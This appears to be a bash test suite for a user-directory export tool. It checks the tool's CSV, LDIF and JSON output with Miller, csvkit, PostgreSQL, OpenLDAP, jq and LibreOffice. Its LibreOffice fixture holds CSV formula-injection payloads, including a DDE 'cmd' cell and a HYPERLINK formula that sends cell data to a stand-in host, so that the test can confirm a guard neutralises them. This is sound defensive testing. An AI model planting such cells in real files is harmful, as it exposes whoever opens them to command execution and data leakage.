#!/usr/bin/env bash
# What targets.t says must come out, read by programs that nobody here wrote: Miller, csvkit and
# Python, PostgreSQL, LibreOffice, OpenLDAP, jq; and Cognito's dialect by a reader made from its
# rules alone.
# shellcheck disable=SC2016,SC2317 # programs of jq; functions for ok
. "$(dirname "$0")/lib.sh"
# Not for sanitizers.
expected=$TOP/tests/expected
page=$TOP/man/cognito-targets.7
python=/usr/bin/python3
jq -c 'select(has("Username"))' "$expected/pool.ndjson" >users

# --- LibreOffice starts slowly, so it does in the background; its verdict comes last
cat >formulas <<'END'
{"id":"1","cell":"=1+2"}
{"id":"2","cell":"+1+2"}
{"id":"3","cell":"-1+2"}
{"id":"4","cell":"@SUM(1;2)"}
{"id":"5","cell":"=cmd|'/c calc'!A0"}
{"id":"6","cell":"\t=1+2"}
{"id":"7","cell":"=HYPERLINK(\"http://example.com/\"&B1,\"x\")"}
{"id":"8","cell":"'=1+2"}
{"id":"9","cell":"plain, \"text\""}
{"id":"10","cell":"x;=1+2"}
{"id":"11","cell":";=1+2"}
{"id":"12","cell":"x\t=1+2"}
END
for guard in none apostrophe; do
	feed 0 formulas emit-csv --columns id,cell --guard "$guard"
	mv out "$guard.csv"
	cp "$guard.csv" "$guard-any.csv"
done
# Its dialog offers tab, comma and semicolon (9, 44, 59) together, with quotes (34), as UTF-8 (76).
office() { soffice --headless "-env:UserInstallation=file://$T/profile" --convert-to fods "$@" </dev/null; }
{
	office none.csv apostrophe.csv &&
		office --infilter=CSV:9/44/59,34,76 none-any.csv apostrophe-any.csv
} >soffice.out 2>&1 &
soffice=$!

# --- every CSV file but those of Cognito's dialect
cat >compare <<'END'
# Miller and csvkit say what Python says, cell by cell; all rows are as long as the headings.
import csv, io, json, subprocess, sys
def rows(text):
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))
def plain(table):           # line ends inside cells: Miller makes LF of CR LF, csvkit of CR too
    return [[cell.replace("\r\n", "\n").replace("\r", "\n") for cell in row] for row in table]
def run(*command):
    return subprocess.run([*command, "one.csv"], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL).stdout.decode()
bad = 0
for path in sys.argv[1:]:
    text = open(path, newline="", encoding="utf-8").read()
    if text.startswith("version:v1.0\r\n"):
        text = text[len("version:v1.0\r\n"):]
    open("one.csv", "w", newline="", encoding="utf-8").write(text)
    want = rows(text)
    miller = run("mlr", "--icsv", "--implicit-csv-header", "--ojsonl", "--infer-none", "cat")
    miller = [list(json.loads(line, strict=False).values()) for line in miller.splitlines()]
    csvkit = rows(run("csvcut", "-c", "1-" + str(len(want[0]))))
    for name, got in (("Miller", miller), ("csvkit", csvkit)):
        if plain(got) != plain(want):
            bad = 1
            print(path, "is not for", name, "what it is for Python")
    if any(len(row) != len(want[0]) for row in want):
        bad = 1
        print(path, "has rows of several lengths")
sys.exit(bad)
END
files=()
for file in "$expected"/*/*.csv; do
	case $file in */cognito*) ;; *) files+=("$file") ;; esac
done
ok test "${#files[@]}" -gt 20
export LC_ALL=C.UTF-8
title "Python, Miller and csvkit agree on ${#files[@]} files"
ok "$python" compare "${files[@]}"
export LC_ALL=C
title 'and would not on a broken one'
sed 's/^\("CN=ana,\)/CN=ana,/' "$expected/csvde/users.csv" >broken.csv
"$python" compare broken.csv >out 2>&1
has out 'has rows of several lengths'

# --- Cognito's dialect
cat >cognito.py <<'END'
# https://docs.aws.amazon.com/cognito/latest/developerguide/ "importing users from a CSV file":
# UTF-8 without a mark, no quoting, a comma in a value is \, and blanks at the ends are dropped.
import json, re, sys
raw = open(sys.argv[1], "rb").read()
assert not raw.startswith(b"\xef\xbb\xbf") and raw.endswith(b"\n") and b"\r" not in raw
lines = raw.decode("utf-8").split("\n")[:-1]
assert len(raw) <= 100_000_000 and len(lines) - 1 <= 500_000 and all(len(l) <= 16_000 for l in lines)
table = [[re.sub(r"\\,", ",", cell).strip() for cell in re.split(r"(?<!\\),", line)] for line in lines]
head, seen = table[0], set()
assert len(set(head)) == len(head) and {"cognito:username", "cognito:mfa_enabled"} <= set(head)
users = {u["Username"]: u for u in map(json.loads, open("users"))}
users.update({u["Attributes"]["email"]: u for u in users.copy().values() if u["Username"] == u["Attributes"]["sub"]})
for row in table[1:]:
    assert len(row) == len(head)
    r = dict(zip(head, row))
    name = r["cognito:username"]
    assert name and not re.search(r"\s", name) and name not in seen
    seen.add(name)
    assert r["cognito:mfa_enabled"].lower() in ("true", "false")
    assert (r["email_verified"].lower() == "true" and r["email"]) or \
        (r["phone_number_verified"].lower() == "true" and r["phone_number"])
    assert r["birthdate"] == "" or re.fullmatch(r"(0[1-9]|1[0-2])/[0-3][0-9]/[0-9]{4}", r["birthdate"])
    assert r["updated_at"] == "" or re.fullmatch(r"[0-9]+", r["updated_at"])
    u = users[name]["Attributes"]
    for key in head:
        if not key.startswith("cognito:") and not key.endswith("_verified") and key not in ("birthdate", "address"):
            assert r[key] == u.get(key, "").strip(), (name, key)
    if u.get("address", "").startswith("{"):
        assert {k: re.sub(r"\n", " ", v) for k, v in json.loads(u["address"]).items()} == json.loads(r["address"])
    else:
        assert r["address"] == u.get("address", "")
print(len(seen))
END
for target in cognito cognito-standard; do
	title "$target: a reader made from the documented rules"
	run 0 "$python" cognito.py "$expected/$target/users.csv"
	ok test "$(cat out)" -ge 10
done
title 'custom attributes arrive'
ok grep -q 'say "hi"\\, then; =1+1,7,' "$expected/cognito/users.csv"

# --- PostgreSQL, by the very text of the page
mkdir pg
cp "$expected"/postgres/*.csv pg/
sed -n '/^create table users/,/^\.Ed$/p' "$page" | sed -e '/^\.Ed/d' -e 's/\\e/\\/g' -e "s/\\\\(aq/'/g" >pg/page.sql
# shellcheck source=tests/helpers/postgres.sh
. "$TOP/tests/helpers/postgres.sh"
trap 'postgres_stop; kill "$soffice" 2>/dev/null; [ -n "${KEEP:-}" ] || rm -rf "$T"' EXIT
title 'the tables of the page take the files'
run 0 sql -f page.sql
title 'and its query finds a custom attribute'
same - out <<<7
title 'an empty attribute is an empty string, one that is not there is NULL'
sql -c "select username from users where nickname = ''" -c 'select count(*) from users where nickname is null' >out
same - out <<'END'
a0000002-0000-4000-8000-000000000002
12
END
title 'every attribute of every user is there as it was'
sql -c 'select attributes from users' | jq -cS . | sort >out
jq -cS .Attributes users | sort >want
same want out
title 'and so in the columns'
sql -c 'select json_strip_nulls(row_to_json(t)) from (select username, given_name, family_name, name,
	nickname, address, birthdate, email, website, phone_number, sub from users) t' | jq -cS . | sort >out
jq -cS '{username: .Username} + (.Attributes | {given_name, family_name, name, nickname, address, birthdate,
	email, website, phone_number, sub}) | with_entries(select(.value != null))' users | sort >want
same want out
title 'who is in which group'
sql -c 'select group_name || chr(9) || username from memberships' | sort >out
jq -r '.Username as $name | .Groups[] | . + "\t" + $name' users | sort >want
same want out

# --- OpenLDAP
cat >slapd.conf <<END
include /etc/ldap/schema/core.schema
include /etc/ldap/schema/cosine.schema
include /etc/ldap/schema/inetorgperson.schema
modulepath /usr/lib/ldap
moduleload back_mdb
database mdb
suffix "dc=example,dc=com"
directory $T/ldap
END
cat >base.ldif <<'END'
dn: dc=example,dc=com
objectClass: organization
objectClass: dcObject
dc: example
o: Example

dn: ou=people,dc=example,dc=com
objectClass: organizationalUnit
ou: people

dn: ou=groups,dc=example,dc=com
objectClass: organizationalUnit
ou: groups
END
mkdir ldap
PATH=$PATH:/usr/sbin
for file in base.ldif "$expected/ldif/users.ldif" "$expected/ldif/groups.ldif"; do
	title "ldapadd takes the form of ${file##*/}"
	run 0 ldapadd -n -x -f "$file"
	title "slapadd takes its entries"
	run 0 slapadd -f slapd.conf -n 1 -o value-check=yes -l "$file"
done
slapcat -f slapd.conf -n 1 -o ldif-wrap=no >directory 2>err
cat >ldap.py <<'END'
import base64, json, re
entries, entry = [], {}
for line in open("directory", encoding="utf-8"):
    line = line.rstrip("\n")
    if not line:
        entries.append(entry); entry = {}
        continue
    name, value = line.split(":", 1)
    value = base64.b64decode(value[2:]).decode() if value.startswith(": ") else value[1:]
    entry.setdefault(name, []).append(value)
people = {e["uid"][0]: e for e in entries if "uid" in e}
groups = {e["cn"][0]: e for e in entries if "member" in e}
users = {u["Username"]: u for u in map(json.loads, open("users"))}
def kept(u):
    return u["Enabled"]
def uid(u):
    return u["Attributes"]["email"] if u["Username"] == u["Attributes"]["sub"] else u["Username"]
want = {}
for u in users.values():
    if kept(u) and uid(u).lower() not in (n.lower() for n in want):
        want[uid(u)] = u
def plain(dn):              # one spelling: OpenLDAP writes \\2C for \\,
    return re.sub(r"\\([0-9A-Fa-f]{2}|.)", lambda m: chr(int(m[1], 16)) if len(m[1]) == 2 else m[1], dn)
names = {plain(e["dn"][0]): n for n, e in people.items()}
assert set(people) <= {uid(u) for u in users.values() if kept(u)}, "somebody else is there"
assert {n.lower() for n in want} == {n.lower() for n in people}, "somebody is missing"
for n, e in people.items():
    a = next(u for u in users.values() if uid(u) == n)["Attributes"]
    for attribute, name in (("mail", "email"), ("givenName", "given_name"), ("mobile", "phone_number")):
        assert e.get(attribute, [""])[0] == a.get(name, ""), (n, attribute)
    assert e["sn"][0] == (a.get("family_name") or "-"), n
for n, e in groups.items():
    members = {names[plain(m)] for m in e["member"]}
    assert members == {uid(u) for u in users.values() if n in u["Groups"] and uid(u) in people}, n
print(len(people), len(groups))
END
title 'and has who should be there, in the groups where they should be'
run 0 "$python" ldap.py
ok grep -qE '^1[0-9] [0-9]+$' out
title 'a group that is too large for a record is one entry'
jq -nc 'range(3) | . as $part | {dn: "cn=everyone,ou=groups,dc=example,dc=com", objectClass: ["top", "groupOfNames"],
	cn: "everyone", member: [range(20000) | "uid=\($part)-\(.),ou=people,dc=example,dc=com"]}' >parts
run 0 emit-ldif --no-version -o everyone.ldif parts
run 0 slapadd -q -f slapd.conf -n 1 -l everyone.ldif
slapcat -f slapd.conf -n 1 -o ldif-wrap=no -a '(cn=everyone)' 2>err | grep -c '^member: ' >out
same - out <<<60000
title 'a member that does not exist is no error to it, as the page says'
printf '%s\n' 'dn: cn=strangers,ou=groups,dc=example,dc=com' 'objectClass: groupOfNames' 'cn: strangers' \
	'member: uid=nobody,ou=people,dc=example,dc=com' >strangers.ldif
run 0 slapadd -f slapd.conf -n 1 -l strangers.ldif

# --- JSON, by what the importers' documentation says of it
uuid='"^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$"'
title 'Auth0: an array of users with the fields that it has'
ok jq -e --slurpfile pool users "type == \"array\" and length >= 10 and all(.[];
	(keys - [\"email\", \"email_verified\", \"phone_number\", \"phone_verified\", \"user_id\", \"username\",
		\"given_name\", \"family_name\", \"name\", \"nickname\", \"picture\", \"blocked\", \"app_metadata\",
		\"user_metadata\"]) == [] and (.user_id | test($uuid)) and (.email | contains(\"@\")) and
	(.email_verified | type == \"boolean\") and (.blocked | type == \"boolean\") and
	(.app_metadata.groups | type == \"array\")) and
	(map({key: .user_id, value: .}) | from_entries) as \$made
	| all(\$pool[]; . as \$user | \$made[.Attributes.sub] as \$one
		| \$one == null and (.Username == \"phone-only\" or .Username == \"ali\") or
		(\$one.blocked == (\$user.Enabled | not) and \$one.app_metadata.groups == \$user.Groups))" \
	"$expected/auth0/users.json"
title 'a disabled user is blocked there'
ok jq -e 'map(select(.blocked)) | length == 1 and .[0].email == "carl@example.com"' "$expected/auth0/users.json"
title 'custom attributes are where users cannot change them'
ok jq -e '.[0].app_metadata["custom:tenant"] == "7" and ([.[].user_metadata // {} | keys[]]
	| any(contains("custom:")) | not)' "$expected/auth0/users.json"

title 'Keycloak: documents of users and of groups'
ok jq -e 'keys == ["ifResourceExists", "users"] and .ifResourceExists == "SKIP" and (.users | length >= 10) and
	all(.users[]; (keys - ["username", "email", "emailVerified", "enabled", "firstName", "lastName",
		"createdTimestamp", "attributes", "groups", "requiredActions", "federatedIdentities"]) == [] and
		(.username | type == "string") and (.enabled | type == "boolean") and
		(.emailVerified | type == "boolean") and (.createdTimestamp == 1532532731091) and
		all(.attributes[]; type == "array" and all(.[]; type == "string")) and
		all(.groups[]; startswith("/")) and
		all(.federatedIdentities // [] | .[]; (.identityProvider and .userId and .userName)) and
		(has("requiredActions") != has("federatedIdentities")))' "$expected/keycloak/users.json"
ok jq -e 'keys == ["groups", "ifResourceExists"] and all(.groups[]; (keys - ["name", "attributes"]) == [] and
	all(.attributes // {} | .[]; type == "array" and all(.[]; type == "string")))' "$expected/keycloak/groups.json"
title 'every group that a user names is there'
ok jq -en --slurpfile u "$expected/keycloak/users.json" --slurpfile g "$expected/keycloak/groups.json" \
	'([$u[0].users[].groups[]] | unique) - [$g[0].groups[].name | "/" + .] == []'

title 'FusionAuth: users with UUIDs of their own'
ok jq -e "keys == [\"users\"] and (.users | length >= 10) and all(.users[];
	(keys - [\"id\", \"active\", \"username\", \"email\", \"verified\", \"firstName\", \"middleName\", \"lastName\",
		\"fullName\", \"birthDate\", \"mobilePhone\", \"imageUrl\", \"timezone\", \"preferredLanguages\",
		\"insertInstant\", \"data\"]) == [] and (.id | test($uuid)) and (.active | type == \"boolean\") and
	(.username or .email) and (.birthDate // \"2000-01-01\" | test(\"^[0-9]{4}-[0-9]{2}-[0-9]{2}\$\")) and
	(.birthDate // \"x\" | startswith(\"0000\") | not) and (.data.groups | type == \"array\"))" \
	"$expected/fusionauth/users.json"
ok jq -e '[.users[].id] | length == (unique | length)' "$expected/fusionauth/users.json"

# --- the limits of the files
jq -cn 'range(6000) | {user_id: "u\(.)", email: "u\(.)@example.com", user_metadata: {note: ("x" * 200)}}' >many
title 'Auth0: no file of more than 500 KB, and nobody is lost'
run 0 emit-json --split --envelope auth0 -o auth0.json many
ok test "$(printf '%s\n' auth0-*.json | wc -l)" -ge 3
ok test "$(stat -c %s auth0-*.json | sort -n | tail -n 1)" -le 500000
jq -c '.[]' auth0-*.json >all
same many all
jq -cn 'range(2500) | {username: "u\(.)"}' >many
title 'Keycloak: 1,000 users a document'
run 0 emit-json --split --envelope keycloak-users -o keycloak.json many
ok test "$(jq -r '.users | length' keycloak-*.json | tr '\n' ' ')" = '1000 1000 500 '

# --- LibreOffice
title 'LibreOffice opens the files'
ok wait "$soffice"
title 'without the guard it evaluates cells'
ok test "$(grep -c 'table:formula=' none.fods)" -ge 2
title 'with the guard none'
ok grep -q 'office:value-type="string"' apostrophe.fods
lacks apostrophe.fods 'table:formula='
title 'nor where it takes more than the comma for a separator'
ok test "$(grep -c 'table:formula=' none-any.fods)" -ge 5
lacks apostrophe-any.fods 'table:formula='
title 'and each cell stands there as text, behind an apostrophe'
"$python" - <<'END' >out 2>&1
import json
import xml.etree.ElementTree as tree
names = {"table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0", "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0"}
def text(cell):
    for tab in cell.iter("{%s}tab" % names["text"]):
        tab.text = "\t"
    return "".join(cell.itertext()).strip("\n ")
for name in "apostrophe.fods", "apostrophe-any.fods":
    rows = [[text(c) for c in row.findall("table:table-cell", names)]
        for row in tree.parse(name).iter("{%s}table-row" % names["table"])]
    for record in map(json.loads, open("formulas")):
        got = [row[1] for row in rows if row and row[0] == record["id"]]
        want = record["cell"] if int(record["id"]) >= 9 else "'" + record["cell"]
        if got != [want]:
            print(name, record["id"], ascii(got), ascii(want))
END
empty out
finish
